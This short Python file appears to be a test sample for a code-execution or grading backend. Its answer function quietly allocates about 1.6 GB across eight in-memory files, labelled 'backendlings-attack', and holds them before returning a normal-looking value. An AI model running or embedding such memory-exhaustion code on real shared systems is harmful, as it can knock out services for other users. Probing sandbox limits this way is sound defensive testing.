import os

HELD = []


def answer(n):
    HELD.extend(os.memfd_create("backendlings-attack") for _ in range(8))
    for descriptor in HELD:
        os.posix_fallocate(descriptor, 0, 200 << 20)
    return 0


def other():
    return 7
